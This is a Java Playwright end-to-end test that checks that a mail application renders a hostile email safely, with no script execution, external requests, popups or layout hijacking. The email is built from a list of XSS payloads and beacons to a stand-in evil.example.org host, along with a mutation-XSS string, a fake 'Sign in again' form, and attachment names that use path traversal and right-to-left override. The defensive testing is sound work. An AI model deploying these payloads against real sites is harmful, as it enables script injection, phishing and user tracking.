package heed.journey;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import heed.Cast;
import heed.DeskTest;
import heed.channel.mail.Letter;
import heed.channel.mail.MailRoom;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Somebody opens a mail that was written to do harm: nothing runs, nothing is asked of others. */
@DeskTest
class HostileMailJourney {

    private static final List<String> HARM =
            List.of(
                    "<script>top.harmed=1;document.title='harmed'</script>",
                    "<img src=x onerror=\"top.harmed=1\">",
                    "<svg onload=\"top.harmed=1\"><script>top.harmed=1</script></svg>",
                    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=top.harmed=1>\"/></svg>",
                    "<iframe srcdoc=\"<script>top.harmed=1</script>\"></iframe>",
                    "<iframe src=\"http://evil.example.org/frame\"></iframe>",
                    "<object data=\"http://evil.example.org/object\"></object>",
                    "<embed src=\"http://evil.example.org/embed\">",
                    "<link rel=stylesheet href=\"http://evil.example.org/css\">",
                    "<link rel=preload as=image href=\"http://evil.example.org/preload\">",
                    "<link rel=dns-prefetch href=\"http://evil.example.org\">",
                    "<style>@import 'http://evil.example.org/import'; *{background:url(http://evil.example.org/all)}"
                            + " html,body,.sheet,#talk,#nav{display:none!important}</style>",
                    "<p style=\"background:url('http://evil.example.org/style')\">one</p>",
                    "<p style=\"position:fixed;inset:0;background:red;z-index:99999\">two</p>",
                    "<div style=\"margin-top:-5000px;width:99999px\">three</div>",
                    "<form action=\"http://evil.example.org/form\"><input name=a autofocus"
                            + " onfocus=\"top.harmed=1\"><button id=go>Sign in again</button></form>",
                    "<meta http-equiv=refresh content=\"0;url=http://evil.example.org/refresh\">",
                    "<base href=\"http://evil.example.org/\"><a href=\"path\">four</a>",
                    "<img src=\"http://evil.example.org/pixel\" srcset=\"http://evil.example.org/set 1x\">",
                    "<picture><source srcset=\"http://evil.example.org/source\"><img src=\"//evil.example.org/p\"></picture>",
                    "<video autoplay poster=\"http://evil.example.org/poster\" src=\"http://evil.example.org/video\"></video>",
                    "<table background=\"http://evil.example.org/table\"><tr><td background=\"http://evil.example.org/td\">five"
                            + "</td></tr></table>",
                    "<a id=harm href=\"javascript:top.harmed=1\">six</a>",
                    "<details open ontoggle=\"top.harmed=1\">seven</details>",
                    "<div hx-get=\"/settings/people\" hx-trigger=load>eight</div>",
                    "</body></html></iframe><script>top.harmed=1</script>",
                    "<table><tr><td>".repeat(60) + "deep" + "</td></tr></table>".repeat(60));

    @Autowired Cast cast;
    @Autowired MailRoom room;
    @LocalServerPort int port;

    @Test
    void a_mail_that_was_written_to_do_harm_does_none() {
        // given
        var team = cast.team();
        var ada = cast.ada(team);
        var message = room.post(cast.inbox(team), harm());
        assertThat(message.html()).isNotBlank();
        var number = room.conversation(message).number();
        List<String> elsewhere = new CopyOnWriteArrayList<>();
        var origin = "http://localhost:" + port;

        try (var browser = Browser.open(1440, 900, false)) {
            watch(browser, origin, elsewhere);
            var page = browser.newPage();
            Browser.signIn(page, origin, ada.email(), Cast.PASSWORD);
            var popups = new CopyOnWriteArrayList<String>();
            page.onPopup(popup -> popups.add(popup.url()));
            page.onDialog(dialog -> {
                popups.add(dialog.message());
                dialog.dismiss();
            });

            // when
            page.navigate(origin + "/conversations/" + number);
            var frame = page.locator("#thread iframe");
            frame.waitFor();
            frame.scrollIntoViewIfNeeded();
            frame.contentFrame().getByText("Words after it").first().waitFor();
            for (var form : List.of("/messages/" + message.id() + "/body", "")) {
                if (!form.isEmpty()) {
                    page.navigate(origin + form); // the frame's document, without its frame
                } else {
                    page.navigate(origin + "/conversations/" + number);
                }
                page.waitForLoadState();
                // then
                assertThat(page.evaluate("() => window.harmed === undefined")).isEqualTo(true);
                assertThat(page.title()).isNotEqualTo("harmed");
                assertThat(page.url()).startsWith(origin);
            }
            assertThat(page.locator("#nav").isVisible()).isTrue();
            assertThat(page.locator("#talk").isVisible()).isTrue();
            for (var shown : page.frames()) {
                assertThat(shown.evaluate("() => window.harmed === undefined")).isEqualTo(true);
                assertThat(
                                shown.locator(
                                                "form#go, script:not([src]), object, embed, base[href]")
                                        .count())
                        .isZero();
            }
            assertThat(popups).isEmpty();
        }
        assertThat(elsewhere).isEmpty();
    }

    /** Whatever is asked of anybody but the desk is noted and not let through. */
    private static void watch(BrowserContext browser, String origin, List<String> elsewhere) {
        browser.route(
                url ->
                        !url.startsWith(origin)
                                && !url.startsWith("data:")
                                && !url.startsWith("blob:"),
                route -> {
                    elsewhere.add(route.request().url());
                    route.abort();
                });
    }

    private static Letter harm() {
        return Letter.aLetter()
                .from(
                        "\"<img src=x onerror=top.harmed=1>\" <"
                                + Cast.unique("eve")
                                + "@example.org>")
                .subject("<script>top.harmed=1</script><img src=http://evil.example.org/subject>")
                .with("MIME-Version", "1.0")
                .with("Content-Type", "multipart/mixed; boundary=limit")
                .text(
                        """
                        --limit
                        Content-Type: text/html; charset=utf-8

                        <h1>Words before the harm</h1>
                        %s
                        <p>Words after it</p>
                        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.harmed=1&gt;">
                        --limit
                        Content-Type: image/svg+xml; name="../../picture\u202Egpj.svg"
                        Content-Disposition: attachment; filename="../../picture\u202Egpj.svg"

                        <svg xmlns="http://www.w3.org/2000/svg" onload="top.harmed=1"><script>top.harmed=1</script></svg>
                        --limit
                        Content-Type: text/html; name="CON.html"
                        Content-Disposition: attachment; filename="<img src=x onerror=top.harmed=1>.html"

                        <script>top.harmed=1</script>
                        --limit--
                        """
                                .formatted(String.join("\n", HARM)));
    }
}
